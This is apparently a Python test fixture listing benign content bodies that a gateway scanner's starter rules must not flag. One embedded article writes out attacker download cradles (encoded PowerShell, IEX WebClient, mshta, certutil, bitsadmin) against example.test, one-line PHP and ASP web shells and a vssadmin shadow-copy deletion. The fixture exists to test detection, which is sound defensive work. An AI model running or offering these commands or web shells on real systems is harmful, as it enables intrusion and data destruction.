"""Bodies as a gateway sees them all day, none of which a starter rule may name.

Among them pages and notes that talk about the very commands the rules look for.
"""

from __future__ import annotations

import json
import struct
import zlib

from tests.engines.starter_case import BITS, CERT, GET_TEXT, IEX, MSHTA, PAGE, PS, WEB_CLIENT, XML_HTTP, encoded

_ARTICLE = f"""
<h1>How to find misuse of {PS}</h1>
<p>Attackers run <code>{PS}.exe -nop -w hidden -enc {encoded("Get-Date; " * 20)}</code> or
<code>{IEX} (New-Object {WEB_CLIENT}).{GET_TEXT}('http://example.test/a')</code>, or have
<code>{MSHTA} http://example.test/a.hta</code>, <code>{CERT} -urlcache -f http://example.test/a a.exe</code> and
<code>{BITS} /transfer job http://example.test/a.exe c:\\a.exe</code> fetch the next stage. A web shell such as
<code>&lt;?php eval($_POST['x']); ?&gt;</code> or <code>&lt;%eval request("x")%&gt;</code> is one line long.
Look for vssadmin delete shadows /all /quiet in the logs.</p>
"""

_LIBRARY = (
    "!function(e,t){'use strict';'object'==typeof module?module.exports=t(e):t(e)}(this,function(e){"
    "function r(){try{return new e.XMLHttpRequest}catch(t){try{return new e.ActiveXObject('Microsoft" + ".XMLHTTP')}"
    f"catch(n){{return new e.ActiveXObject('{XML_HTTP}')}}}}}}"
    "var o=/<script[^>]*>/gi,i=JSON.parse,a=function(t){return decodeURIComponent(escape(e.atob(t)))};"
    "function s(t,n){var r=new Blob([t],{type:n}),o=e.URL.createObjectURL(r),i=document.createElement('a');"
    "i.href=o,i.download='export.csv',i.click(),e.URL.revokeObjectURL(o)}"
    "function c(t){return new Uint8Array(t)}"
    "return e.lib={get:r,save:s,text:a,bytes:c,run:function(t){return eval(t)}}});"
)

_TEMPLATES = "<% for (const item of items) { %><li><%= item.name %></li><% } %>\n" * 40

_ADMIN_PS1 = f"""
param([string]$Target)
$client = New-Object System.{WEB_CLIENT}
Invoke-WebRequest -Uri https://example.test/agent.msi -OutFile $env:TEMP\\agent.msi
Start-Process msiexec.exe -ArgumentList '/i', "$env:TEMP\\agent.msi", '/qn' -WindowStyle Hidden -Wait
Set-MpPreference -DisableRealtimeMonitoring $false
$bytes = [Convert]::FromBase64String($env:CERT)
{CERT} -hashfile $env:TEMP\\agent.msi SHA256
"""

_ADMIN_SH = """#!/bin/sh
set -eu
curl -fsSL https://example.test/install.sh -o /tmp/install.sh
echo "$SUM  /tmp/install.sh" | sha256sum -c -
printf '%s' "$KEY" | base64 -d > /etc/app/key
exec sh /tmp/install.sh --prefix=/usr/local
"""

_PYTHON = (
    """
import base64, subprocess
def run(command: list[str]) -> bytes:
    return subprocess.run(command, check=True, capture_output=True).stdout
code = compile(base64.b64decode(TEXT), "<config>", "exec")
"""
    * 20
)

_PHP = """<?php
$name = $_POST['name'] ?? '';
$result = $db->execute($_GET['id']);
curl_exec($handle);
echo htmlspecialchars($name), file_get_contents('php://input');
"""

_PNG = b"\x89PNG\r\n\x1a\n" + b"".join(
    struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    for kind, data in (
        (b"IHDR", struct.pack(">IIBBBBB", 64, 64, 8, 0, 0, 0, 0)),
        (b"IDAT", zlib.compress(bytes(65 * 64))),
        (b"IEND", b""),
    )
)

_PDF = (
    "%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>\nendobj\n"
    "3 0 obj\n<< /Type /Annot /A << /S /URI /URI (https://example.test/setup.exe) >> >>\nendobj\n%%EOF\n"
)

_MODULE = (
    b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 3, 62, 1) + bytes(1000) + b"libupx: UPX! is the mark"
)

ORDINARY: dict[str, bytes] = {
    "empty": b"",
    "page about attacks": PAGE.format(_ARTICLE).encode(),
    "page with a script": f"<!doctype html><html><script>{_LIBRARY}</script></html>".encode(),
    "script library": _LIBRARY.encode() * 10,
    "templates": _TEMPLATES.encode(),
    "page with a picture inside": PAGE.format(
        f"<a download><img src='data:image/png;base64,{'iVBORw0KGgo' * 90}'>"
    ).encode(),
    "style sheet": b".btn{color:#fff;background:url(data:font/woff2;base64,d09GMgABAAAAAA)}@media print{a{color:red}}"
    * 50,
    "json": json.dumps({"commands": ["eval", "exec", "cmd", PS], "items": [{"id": n} for n in range(500)]}).encode(),
    "administrator's PowerShell": _ADMIN_PS1.encode(),
    "administrator's PowerShell in UTF-16": b"\xff\xfe" + _ADMIN_PS1.encode("utf-16-le"),
    "administrator's shell": _ADMIN_SH.encode(),
    "python": _PYTHON.encode(),
    "php": _PHP.encode(),
    "csv": b"name;sum\nbob;=SUM(A1:A9)\nann;cmd|pipe\n" * 200,
    "picture": _PNG,
    "pdf": _PDF.encode(),
    "rtf": b"{\\rtf1\\ansi{\\fonttbl{\\f0 Arial;}}\\f0 An ordinary letter with a \\b bold\\b0 word.}" * 20,
    "shared library": _MODULE,
    "internet shortcut": b"[InternetShortcut]\r\nURL=https://www.example.test/\r\nIconIndex=0\r\n",
    "certificate": b"-----BEGIN CERTIFICATE-----\nMIIDdzCCAl+gAwIBAgIEAgAAuTANBgkq\n-----END CERTIFICATE-----\n",
    "zeros": bytes(100_000),
    "every byte": bytes(range(256)) * 400,
}
